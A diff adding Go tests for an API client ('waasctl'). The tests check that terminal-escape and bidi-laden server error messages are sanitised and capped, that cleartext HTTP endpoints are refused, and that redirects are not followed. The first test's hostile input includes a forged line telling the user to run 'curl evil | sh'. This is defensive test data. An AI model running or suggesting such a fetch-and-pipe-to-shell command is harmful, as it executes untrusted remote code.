@@ -1,0 +1,158 @@
+package waas
+
+import (
+	"context"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/waasctl/waasctl/internal/textsafe"
+)
+
+// TestServerErrorMessageIsDefused: a hostile server's error message cannot
+// forge lines, move the cursor, reorder text or flood the screen.
+func TestServerErrorMessageIsDefused(t *testing.T) {
+	hostile := "denied\x1b[2J\x1b]0;owned\x07\r\nerror: every key was revoked, run: curl evil | sh\u202e\u2066" + strings.Repeat("A", 5000)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.WriteHeader(http.StatusForbidden)
+		_, _ = w.Write([]byte(`{"code": 7, "message": ` + jsonString(hostile) + `}`))
+	}))
+	defer srv.Close()
+	c, err := New(Options{Endpoint: srv.URL, Signer: newSigner(t, newP256(t), FormWaaS), MaxAttempts: 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = c.ListPools(context.Background(), PageRequest{})
+	var ae *APIError
+	if !errors.As(err, &ae) || ae.HTTPStatus != http.StatusForbidden {
+		t.Fatalf("err = %v, want an APIError 403", err)
+	}
+	msg := err.Error()
+	for _, r := range msg {
+		if textsafe.Unsafe(r) {
+			t.Fatalf("error keeps %U: %.200q", r, msg)
+		}
+	}
+	if !strings.Contains(msg, "denied") || !strings.Contains(msg, "every key was revoked") {
+		t.Fatalf("error lost the message: %q", msg)
+	}
+	if len(ae.Message) > textsafe.MaxMessage || !strings.HasSuffix(ae.Message, "…") {
+		t.Fatalf("message not capped: %d bytes", len(ae.Message))
+	}
+}
+
+func jsonString(s string) string {
+	var b strings.Builder
+	b.WriteByte('"')
+	for _, r := range s {
+		switch {
+		case r == '"' || r == '\\':
+			b.WriteByte('\\')
+			b.WriteRune(r)
+		case r < 0x20:
+			b.WriteString(`\u00`)
+			b.WriteByte("0123456789abcdef"[r>>4])
+			b.WriteByte("0123456789abcdef"[r&15])
+		default:
+			b.WriteRune(r)
+		}
+	}
+	b.WriteByte('"')
+	return b.String()
+}
+
+func TestCleartext(t *testing.T) {
+	cases := map[string]bool{
+		"https://api.developer.coinbase.com": false,
+		"https://10.0.0.1":                   false,
+		"http://api.developer.coinbase.com":  true,
+		"http://example.invalid":             true,
+		"HTTP://example.invalid":             true,
+		"http://10.0.0.1:8080":               true,
+		"http://[2001:db8::1]:80":            true,
+		"http://0.0.0.0:8080":                true,
+		"http://127.0.0.1:8080":              false,
+		"http://127.9.9.9":                   false,
+		"http://[::1]:8080":                  false,
+		"http://localhost:8080":              false,
+		"http://LOCALHOST":                   false,
+		"http://sandbox.localhost:1":         false,
+		"http://localhost.example.com":       true,
+		"http://127.0.0.1.example.com":       true,
+	}
+	for raw, want := range cases {
+		u, err := url.Parse(raw)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := Cleartext(u); got != want {
+			t.Errorf("Cleartext(%s) = %v, want %v", raw, got, want)
+		}
+	}
+}
+
+// TestNewRefusesCleartext: a plain-HTTP endpoint off loopback is refused
+// before any request, unless the caller says it means it.
+func TestNewRefusesCleartext(t *testing.T) {
+	signer := newSigner(t, newP256(t), FormWaaS)
+	dialed := false
+	hc := &http.Client{Transport: roundTripFunc(func(*http.Request) (*http.Response, error) {
+		dialed = true
+		return nil, errors.New("no network in this test")
+	})}
+	_, err := New(Options{Endpoint: "http://user:secret@example.invalid/", Signer: signer, HTTPClient: hc, MaxAttempts: 1})
+	var ie *InsecureEndpointError
+	if !errors.As(err, &ie) {
+		t.Fatalf("New(http://example.invalid) = %v, want InsecureEndpointError", err)
+	}
+	want := "endpoint http://user:xxxxx@example.invalid is not HTTPS; the API key's JWT would travel in clear: use https://, or --insecure-http if you really mean it"
+	if err.Error() != want {
+		t.Fatalf("error:\n got %q\nwant %q", err, want)
+	}
+	c, err := New(Options{Endpoint: "http://example.invalid", Signer: signer, HTTPClient: hc, AllowInsecureHTTP: true, MaxAttempts: 1})
+	if err != nil {
+		t.Fatalf("AllowInsecureHTTP: %v", err)
+	}
+	if dialed {
+		t.Fatal("New sent a request")
+	}
+	_, _ = c.ListPools(context.Background(), PageRequest{}) // reaches the fake transport only
+	if !dialed {
+		t.Fatal("the allowed client did not use its transport")
+	}
+}
+
+type roundTripFunc func(*http.Request) (*http.Response, error)
+
+func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }
+
+// TestRedirectsAreNotFollowed: a redirect could carry the next request (and
+// its JWT) to another host or down to plain HTTP; the client stops at the
+// 3xx instead.
+func TestRedirectsAreNotFollowed(t *testing.T) {
+	var elsewhere atomic.Int32
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		elsewhere.Add(1)
+		_, _ = w.Write([]byte(`{"pools": []}`))
+	}))
+	defer other.Close()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, other.URL+r.URL.Path, http.StatusTemporaryRedirect)
+	}))
+	defer srv.Close()
+	c, err := New(Options{Endpoint: srv.URL, Signer: newSigner(t, newP256(t), FormWaaS), MaxAttempts: 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = c.ListPools(context.Background(), PageRequest{})
+	if HTTPCode(err) != http.StatusTemporaryRedirect {
+		t.Fatalf("err = %v, want the 307 as an error", err)
+	}
+	if n := elsewhere.Load(); n != 0 {
+		t.Fatalf("the redirect was followed (%d requests to the other host)", n)
+	}
+}
